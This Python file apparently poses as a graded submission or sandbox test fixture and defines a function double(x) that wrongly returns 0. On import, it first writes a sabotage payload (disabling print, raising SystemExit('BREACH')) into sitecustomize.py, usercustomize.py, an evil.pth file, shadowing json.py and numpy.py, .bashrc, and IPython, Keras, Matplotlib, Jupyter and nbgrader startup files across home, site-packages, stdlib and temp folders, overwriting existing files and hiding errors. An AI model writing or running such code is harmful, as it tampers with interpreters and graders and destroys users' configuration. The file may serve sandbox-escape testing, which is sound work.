"""Leaves files that Python, IPython, Keras and Matplotlib read when they start."""

import contextlib
import os
import site
import sys
import sysconfig

TEXT = "import builtins; builtins.print = None; raise SystemExit('BREACH')"

homes = {os.path.expanduser("~"), os.environ["HOME"], "@HOME@", os.getcwd(), "/", "@COURSE@"}
names = ["sitecustomize.py", "usercustomize.py", "json.py", "numpy.py", "vaelib.py", "evil.pth"]
names += [".pythonrc.py", ".ipython/profile_default/startup/00.py", ".keras/keras.json", ".bashrc"]
names += [".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", "nbgrader_config.py"]
folders = [*homes, *sys.path, *site.getsitepackages(), site.getusersitepackages()]
folders += [sysconfig.get_path("stdlib"), "/tmp", "/dev/shm"]
for folder in folders:
    for name in names:
        with contextlib.suppress(OSError):
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(TEXT)


def double(x):
    return 0
